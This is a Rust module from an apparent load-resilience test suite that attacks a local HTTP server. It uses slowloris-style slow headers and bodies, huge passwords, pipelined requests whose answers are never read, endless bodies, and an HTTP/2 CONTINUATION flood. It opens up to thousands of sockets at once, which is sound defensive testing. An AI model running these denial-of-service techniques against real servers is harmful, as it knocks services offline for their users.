//! Shapes that cost the attacker next to nothing: sockets that are silent, slow, deaf or endless.

use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};

use super::{ATTACKER, Target};
use crate::Failure;

/// More than the descriptors most shells give a process.
const SILENT_SOCKETS: usize = 2000;
const SLOW_SOCKETS: usize = 600;
const PARKED_SOCKETS: usize = 2000;
const LARGE_SENDERS: usize = 64;
const DEAF_SOCKETS: usize = 40;
const PIPELINING_SOCKETS: usize = 1000;
const ENDLESS_SOCKETS: usize = 32;

/// Just less than a head may have.
const PARKED: usize = 31 << 10;
/// Just less than a body may have.
const LARGE_PASSWORD: usize = 60 << 10;

/// Time between two bytes of a slow sender.
const DRIP: Duration = Duration::from_secs(2);

/// How soon a socket that was closed is opened again.
const RECONNECT: Duration = Duration::from_secs(1);

/// Sockets that never send a byte.
pub(super) async fn idle(target: &Target) {
    let one = async |_| {
        let mut stream = connect(target).await?;
        // Until the server closes it.
        let read = stream.read(&mut [0; 16]).await;
        target.tally.count("closed");
        read?;
        tokio::time::sleep(RECONNECT).await;
        Ok(())
    };
    target.side_by_side(SILENT_SOCKETS, one).await;
}

/// Request heads of one byte every two seconds.
pub(super) async fn slow_heads(target: &Target) {
    let one = async |_| drip(target, b"GET / HTTP/1.1\r\nhost: a\r\nx-long: ".to_vec()).await;
    target.side_by_side(SLOW_SOCKETS, one).await;
}

/// One request, then nearly all of a head that never ends.
pub(super) async fn parked_heads(target: &Target) {
    let parked = format!(
        "GET / HTTP/1.1\r\nhost: a\r\nx-long: {}",
        "a".repeat(PARKED)
    );
    let one = async |_| {
        let mut stream = connect(target).await?;
        stream
            .write_all(b"GET / HTTP/1.1\r\nhost: a\r\n\r\n")
            .await?;
        let mut answer = vec![0; 4096];
        let length = stream.read(&mut answer).await?;
        target.tally.count(status_of(&answer[..length]));
        stream.write_all(parked.as_bytes()).await?;
        // The rest of the first answer, until the server closes.
        while stream.read(&mut answer).await? > 0 {}
        target.tally.count("closed");
        Ok(())
    };
    target.side_by_side(PARKED_SOCKETS, one).await;
}

/// Sign-ins with passwords nearly as long as a body may be.
pub(super) async fn large_passwords(target: &Target) {
    let password = "a".repeat(LARGE_PASSWORD);
    let body = format!("{{\"email\":\"a@example.com\",\"password\":\"{password}\"}}");
    let head = format!(
        "POST /auth/v1/token?grant_type=password HTTP/1.1\r\nhost: a\r\napikey: {}\r\n\
         content-type: application/json\r\nconnection: close\r\ncontent-length: {}\r\n\r\n",
        target.key,
        body.len()
    );
    let request = head + &body;
    let one = async |_| {
        let mut stream = connect(target).await?;
        stream.write_all(request.as_bytes()).await?;
        let mut answer = vec![0; 4096];
        let length = stream.read(&mut answer).await?;
        target.tally.count(status_of(&answer[..length]));
        Ok(())
    };
    target.side_by_side(LARGE_SENDERS, one).await;
}

/// Bodies of one byte every two seconds, to routes that need no account.
pub(super) async fn slow_bodies(target: &Target) {
    let one = async |index: usize| {
        let paths = [
            "/api/waitlist",
            "/api/v1/compile",
            "/api/v1/prompts",
            "/auth/v1/otp",
        ];
        let (path, key) = (paths[index % paths.len()], &target.key);
        let head = format!(
            "POST {path} HTTP/1.1\r\nhost: a\r\napikey: {key}\r\n\
             content-type: application/json\r\ncontent-length: 3000\r\n\r\n{{"
        );
        drip(target, head.into_bytes()).await
    };
    target.side_by_side(SLOW_SOCKETS, one).await;
}

/// Sends `begin`, then a byte now and then, until the server has had enough.
async fn drip(target: &Target, begin: Vec<u8>) -> Result<(), Failure> {
    let mut stream = connect(target).await?;
    stream.write_all(&begin).await?;
    let mut answer = vec![0; 4096];
    loop {
        tokio::select! {
            read = stream.read(&mut answer) => {
                let length = read?;
                target.tally.count(status_of(&answer[..length]));
                tokio::time::sleep(RECONNECT).await;
                return Ok(());
            }
            () = tokio::time::sleep(DRIP) => stream.write_all(b" ").await?,
        }
    }
}

/// Asks for long answers, many on one connection, and never reads one.
pub(super) async fn unread(target: &Target) {
    let path = "/api/v1/prompts?limit=500";
    let one = async |_| deaf(target, path, 20).await;
    target.side_by_side(DEAF_SOCKETS, one).await;
}

/// Asks for short answers, as many at once as it can, and never reads one.
pub(super) async fn pipelined(target: &Target) {
    let one = async |_| deaf(target, "/api/v1/repos", 1000).await;
    target.side_by_side(PIPELINING_SOCKETS, one).await;
}

/// Sends so many requests at once and reads no answer, until the server closes.
async fn deaf(target: &Target, path: &str, requests: usize) -> Result<(), Failure> {
    let socket = TcpSocket::new_v4()?;
    socket.set_recv_buffer_size(4096)?;
    socket.bind((ATTACKER, 0).into())?;
    let mut stream = socket.connect(([127, 0, 0, 1], target.port).into()).await?;
    let key = &target.key;
    let request = format!("GET {path} HTTP/1.1\r\nhost: a\r\napikey: {key}\r\n\r\n");
    // Fails when the server closes before it has read them all; so does writing on.
    let mut written = stream.write_all(request.repeat(requests).as_bytes()).await;
    while written.is_ok() {
        tokio::time::sleep(DRIP).await;
        written = stream.write_all(b"\r\n").await;
    }
    target.tally.count("closed");
    Ok(())
}

/// Bodies and heads without an end, as fast as they are taken.
pub(super) async fn huge(target: &Target) {
    let one = async |index: usize| {
        let key = &target.key;
        let begin = if index.is_multiple_of(2) {
            format!(
                "POST /api/v1/compile HTTP/1.1\r\nhost: a\r\napikey: {key}\r\n\
                 content-type: application/json\r\ncontent-length: 1073741824\r\n\r\n{{\"template\":\""
            )
        } else {
            "GET / HTTP/1.1\r\nhost: a\r\nx-long: ".to_owned()
        };
        let mut stream = connect(target).await?;
        stream.write_all(begin.as_bytes()).await?;
        pour(target, stream, &[b'a'; 16 * 1024]).await
    };
    target.side_by_side(ENDLESS_SOCKETS, one).await;
}

/// An HTTP/2 header block that never ends.
pub(super) async fn continuation(target: &Target) {
    let one = async |_| {
        let mut stream = connect(target).await?;
        stream
            .write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
            .await?;
        // An empty SETTINGS frame, then HEADERS on stream 1 without END_HEADERS.
        stream.write_all(&frame(4, 0, 0, &[])).await?;
        stream
            .write_all(&frame(1, 0, 1, &[0x82, 0x86, 0x84]))
            .await?;
        // Each CONTINUATION adds a literal header of some kilobytes.
        let mut literal = vec![0x00, 0x01, b'a', 0x7f, 0x81, 0x3f];
        literal.extend(std::iter::repeat_n(b'b', 8 * 1024));
        let continuation = frame(9, 0, 1, &literal);
        pour(target, stream, &continuation).await
    };
    target.side_by_side(ENDLESS_SOCKETS, one).await;
}

/// An HTTP/2 frame.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len())
        .unwrap_or_default()
        .to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// Writes `chunk` again and again until the server answers or closes.
async fn pour(target: &Target, stream: TcpStream, chunk: &[u8]) -> Result<(), Failure> {
    let (mut reader, mut writer) = stream.into_split();
    let mut answer = vec![0; 4096];
    let pouring = async { while !target.is_over() && writer.write_all(chunk).await.is_ok() {} };
    let answered = async {
        loop {
            let length = reader.read(&mut answer).await.unwrap_or(0);
            // What is no answer of HTTP/1 is a frame of the other side's handshake.
            if length == 0 || answer.starts_with(b"HTTP/1.") {
                target.tally.count(status_of(&answer[..length]));
                return;
            }
        }
    };
    tokio::select! {
        () = pouring => target.tally.count("closed"),
        () = answered => {}
    }
    Ok(())
}

async fn connect(target: &Target) -> Result<TcpStream, Failure> {
    let socket = TcpSocket::new_v4()?;
    socket.bind((ATTACKER, 0).into())?;
    Ok(socket.connect(([127, 0, 0, 1], target.port).into()).await?)
}

/// The status of the beginning of an answer.
fn status_of(answer: &[u8]) -> &str {
    let text = std::str::from_utf8(answer.get(..12).unwrap_or_default()).unwrap_or_default();
    text.strip_prefix("HTTP/1.1 ").unwrap_or("closed")
}
